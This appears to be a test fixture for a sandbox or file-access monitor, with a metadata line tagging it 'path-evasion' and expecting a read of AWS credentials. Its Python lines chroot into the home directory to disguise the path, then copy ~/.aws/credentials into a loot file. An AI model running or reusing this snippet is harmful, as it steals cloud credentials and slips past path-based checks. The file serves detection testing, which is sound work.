#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
f = os.open("@LOOT@", os.O_WRONLY | os.O_CREAT, 0o644); os.chroot(HOME); os.chdir("/")
os.write(f, open("/.aws/credentials", "rb").read())
